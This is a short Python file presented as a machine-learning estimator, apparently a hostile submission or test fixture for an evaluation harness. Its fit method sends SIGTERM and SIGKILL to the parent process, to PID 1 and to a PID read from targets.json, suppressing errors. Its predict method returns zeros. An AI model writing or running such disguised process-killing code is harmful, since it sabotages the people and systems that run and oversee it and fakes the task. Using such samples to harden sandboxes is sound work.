"""Kills whoever started it."""

import contextlib
import json
import os
import signal
from pathlib import Path

import numpy as np

TARGETS = json.loads(Path("targets.json").read_text())


class Estimator:
    def fit(self, X, y):
        for pid in (os.getppid(), 1, TARGETS["pid"]):
            for number in (signal.SIGTERM, signal.SIGKILL):
                with contextlib.suppress(OSError):
                    os.kill(pid, number)
        return self

    def predict(self, X):
        return np.zeros(len(X))


def get_estimator():
    return Estimator()
